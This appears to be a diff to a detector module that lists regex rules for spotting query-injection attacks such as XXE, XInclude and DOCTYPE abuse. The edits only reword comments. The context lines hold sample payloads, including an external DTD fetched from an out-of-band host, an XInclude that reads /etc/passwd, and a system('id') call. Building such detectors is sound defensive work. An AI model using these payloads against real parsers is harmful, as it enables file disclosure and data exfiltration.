@@ -1,4 +1,4 @@
-"""Queries other than SQL: NoSQL, LDAP, XPath, XML entities, XSLT, GraphQL."""
+"""Queries in languages beside SQL: NoSQL, LDAP, XPath, XML entities, XSLT, GraphQL."""
 
 # ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
 from __future__ import annotations
@@ -36,7 +36,7 @@ QUERY = (
     _make("xml", "entity", r"<!entity\b|<!\[%|%\w+;\s*(?:%\w+;|\]|>)", _XXE, STRONG, examples=('<!ENTITY a0 "dos" >',)),
     _make("xml", "doctype_subset", r"<!doctype[^>\[]{1,200}(?:\[|\bsystem\b|\bpublic\b[^>]*https?://(?!)|\bsystem\s*['\"])".replace(r"|\bpublic\b[^>]*https?://(?!)", ""), _XXE, STRONG, examples=('<!DOCTYPE data [',)),
     _make("xml", "doctype", r"<!doctype\b|<!(?:element|attlist|notation)\b", _XXE, WEAK, examples=('<!DOCTYPE data [',)),
-    # Documents of HTML and SVG name www.w3.org; a public identifier of anywhere else is fetched.
+    # HTML and SVG documents name www.w3.org; a parser fetches any other public identifier.
     _make("xml", "public_identifier", r"<!(?:doctype|entity)[^>]{1,200}\bpublic\s*(?:\"[^\"]*\"|'[^']*')\s*['\"](?:file|ftp|php|https?://(?:[a-vx-z\d]|w[a-vx-z]|www\.(?:[a-vx-z]|w[^3])))", _XXE, STRONG, examples=('<!DOCTYPE r PUBLIC "-//A//B//EN" "http://c4f1x9.oast.example/x.dtd"><r/>',)),
     _make("xml", "system_identifier", r"\bsystem\s+['\"](?:file|https?|ftp|php|gopher|jar|expect|netdoc|data|\w+:)?[/:\w.]", _XXE, STRONG, examples=("@{[system 'id']",)),
     _make("xml", "xinclude", r"<xi:include\b|xmlns:xi\s*=|http://www\.w3\.org/2001/xinclude|xsi:schemalocation\s*=\s*['\"][^'\"]*https?://\d", _XXE, STRONG, examples=('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',)),
